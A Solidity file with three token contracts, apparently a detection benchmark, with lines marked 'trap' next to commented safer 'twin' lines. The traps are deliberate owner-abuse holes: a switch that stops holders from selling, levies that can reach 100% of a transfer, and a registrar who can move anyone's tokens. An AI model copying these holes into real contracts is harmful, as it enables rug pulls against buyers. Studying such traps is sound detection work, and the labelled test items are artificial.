// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// One word holds who runs it and what is switched on.
contract CobaltHeron {
    string public constant name = "Cobalt Heron";
    string public constant symbol = "CHERON";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 77_000_000 ether;
    uint256 private _w;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Configured(uint8 indexed bit, bool on);

    constructor() {
        _w = uint256(uint160(msg.sender));
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view returns (address) {
        return address(uint160(_w));
    }

    function configure(uint8 bit, bool on) external {
        require(msg.sender == owner(), "not you");
        require(bit < 8, "bit"); // trap
        // twin: require(bit < 5, "bit");
        uint256 mask = 1 << (160 + uint256(bit));
        _w = on ? _w | mask : _w & ~mask;
        emit Configured(bit, on);
    }

    function _is(uint8 bit) private view returns (bool) {
        return (_w >> (160 + uint256(bit))) & 1 == 1;
    }

    /// bit 1: holders may burn what is theirs
    function burn(uint256 value) external {
        require(_is(1), "off");
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        require(!_is(6) || from == owner(), "later");
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Levies per mille: when bought, when sold, when moved.
contract MarigoldMint {
    struct Levy {
        uint16 entering;
        uint16 leaving;
        uint16 moving;
        address purse;
    }

    string public name = "Marigold";
    string public symbol = "MRGD";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 1_000_000_000 * 1e9;
    address public immutable keeper;
    address public venue;
    Levy public levy;
    mapping(address => uint256) private held;
    mapping(address => mapping(address => uint256)) private consent;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error NotKeeper();
    error TooMuch();

    constructor() {
        keeper = msg.sender;
        levy = Levy(10, 20, 0, msg.sender);
        held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function listVenue(address venue_) external {
        if (msg.sender != keeper || venue != address(0)) revert NotKeeper();
        venue = venue_;
    }

    function renew(Levy calldata next) external {
        if (msg.sender != keeper) revert NotKeeper();
        if (next.entering > 1000 || next.leaving > 1000 || next.moving > 1000) revert TooMuch(); // trap
        // twin: if (next.entering > 40 || next.leaving > 40 || next.moving > 40) revert TooMuch();
        levy = next;
    }

    function balanceOf(address who) external view returns (uint256) {
        return held[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return consent[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        consent[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        consent[from][msg.sender] -= value;
        _carry(from, to, value);
        return true;
    }

    function _carry(address from, address to, uint256 value) private {
        Levy memory now_ = levy;
        uint256 part = from == keeper || to == keeper
            ? 0
            : from == venue ? now_.entering : to == venue ? now_.leaving : now_.moving;
        uint256 cut = (value * part) / 1000;
        held[from] -= value;
        held[to] += value - cut;
        emit Transfer(from, to, value - cut);
        if (cut > 0) {
            held[now_.purse] += cut;
            emit Transfer(from, now_.purse, cut);
        }
    }
}

abstract contract Ledgered {
    mapping(bytes32 => mapping(address => uint256)) internal _parts;
    mapping(address => mapping(address => uint256)) internal _spend;
    bytes32 internal constant COMMON = "common";

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _parts[COMMON][who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _spend[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _spend[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _shift(COMMON, msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _spend[from][msg.sender] -= value;
        _shift(COMMON, from, to, value);
        return true;
    }

    function _shift(bytes32 partition, address from, address to, uint256 value) internal {
        require(to != address(0), "zero");
        _parts[partition][from] -= value;
        _parts[partition][to] += value;
        emit Transfer(from, to, value);
    }
}

/// Shares in partitions, with a redress for errors of the registry.
contract PetrelShares is Ledgered {
    string public constant name = "Petrel Shares";
    string public constant symbol = "PTRL";
    uint256 public constant totalSupply = 21_000_000 ether;
    address public registrar;

    event Redress(bytes32 indexed partition, address from, address to, uint256 value, bytes data, bytes note);

    constructor(address registrar_) {
        registrar = registrar_;
        _parts[COMMON][msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function redress(bytes32 partition, address from, address to, uint256 value, bytes calldata note) external {
        require(msg.sender == registrar, "registrar");
        _shift(partition, from, to, value);
        emit Redress(partition, from, to, value, "", note);
    }

    function handOver(address next) external {
        require(msg.sender == registrar, "registrar");
        registrar = next;
    }
}
